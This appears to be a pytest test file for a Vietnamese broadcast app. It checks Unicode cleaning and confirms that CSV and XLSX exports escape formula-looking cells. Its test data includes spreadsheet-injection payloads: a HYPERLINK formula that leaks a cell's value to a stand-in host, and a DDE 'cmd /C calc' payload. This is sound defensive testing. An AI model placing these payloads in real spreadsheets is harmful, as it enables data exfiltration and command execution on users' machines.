"""The one text rule (NFC, no control or invisible formatting characters) and spreadsheet-safe exports."""
from __future__ import annotations

import csv
import io
import unicodedata
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from broadcast.domain.errors import InvalidInput
from broadcast.domain.text import clean_text, printable, spreadsheet_cell
from broadcast.services.reports.export import to_csv, to_xlsx
from broadcast.services.reports.figures import Chart, Column, Report, Section

TITLE = "Tiếp sóng chương trình pháp luật"
FORMULAS = ('=HYPERLINK("http://x.example/?leak="&A1;"Bấm")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1;1)",
            "\t=1+1", "\r=1+1")


@pytest.mark.parametrize("char", ["\x00", "\x1b", "\t", "\x85", "\u200e", "\u200f", "\u202a", "\u202e", "\u2066",
                                  "\u2069", "\ufeff", "\u200b", "\u2028", "\ud800"])
def test_control_and_formatting_characters_are_refused(char):
    with pytest.raises(InvalidInput) as refused:
        clean_text(f"Thôn {char}Đông", "Tên vùng phát")
    assert refused.value.code == "invalid_characters"
    assert refused.value.message.startswith("Tên vùng phát chứa ký tự điều khiển hoặc ký tự định dạng ẩn")
    assert f"U+{ord(char):04X}" in refused.value.message


def test_text_is_stored_in_nfc_without_surrounding_blanks():
    decomposed = unicodedata.normalize("NFD", TITLE)
    assert decomposed != TITLE
    assert clean_text(f"  {decomposed} ", "Tên chương trình") == TITLE
    assert clean_text(None, "Họ và tên") == ""


def test_only_multiline_text_keeps_line_breaks():
    with pytest.raises(InvalidInput):
        clean_text("Dòng 1\nDòng 2", "Tên chương trình")
    assert clean_text("Dòng 1\r\nDòng 2\rDòng 3\n", "Văn bản cần đọc", multiline=True) == "Dòng 1\nDòng 2\nDòng 3"
    assert clean_text("\tTrú ẩn\tngay", "Văn bản cần đọc", multiline=True) == "Trú ẩn ngay"
    with pytest.raises(InvalidInput):
        clean_text("Dòng 1\n\u202eDòng 2", "Văn bản cần đọc", multiline=True)


def test_printable_drops_what_the_rule_refuses_and_keeps_line_breaks():
    assert printable("a\x1b[31mb\u202ec\nd") == "a[31mbc\nd"


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_looking_text_gets_an_apostrophe(value):
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-3, -2.5, 0, 42, "-3", "+4.5", "12", TITLE, "", None])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert spreadsheet_cell(value) == value


def report() -> Report:
    rows = [{"name": value, "count": -n} for n, value in enumerate(FORMULAS, start=1)]
    section = Section("s", "Bảng", (Column("name", "Tên"), Column("count", "Số")), rows)
    return Report(kind="outcomes", title="Báo cáo", area_code="01", area_name="=Hà Nội", first=date(2026, 1, 1),
                  last=date(2026, 1, 2), generated_at=datetime(2026, 1, 3, tzinfo=UTC), sections=[section],
                  chart=Chart("Biểu đồ", "phút", []), stored_days=0, live_days=0)


def test_csv_export_neutralizes_formulas_and_keeps_numbers():
    lines = list(csv.reader(io.StringIO(to_csv(report()).removeprefix("\ufeff"), newline="")))
    assert lines[1] == ["Khu vực", "'=Hà Nội (01)"]
    body = lines[lines.index(["Tên", "Số"]) + 1:]
    assert body == [["'" + value, str(-n)] for n, value in enumerate(FORMULAS, start=1)]


def test_xlsx_export_neutralizes_formulas_and_keeps_numbers():
    sheet = load_workbook(io.BytesIO(to_xlsx(report()))).active
    rows = list(sheet.iter_rows(min_row=7, values_only=True))
    # XML reads a CR back as LF
    assert rows == [("'" + value.replace("\r", "\n"), -n) for n, value in enumerate(FORMULAS, start=1)]
    assert {cell.data_type for cell in sheet["A"] if cell.value is not None} == {"s"}  # nothing became a formula
    assert sheet["B"][6].data_type == "n"
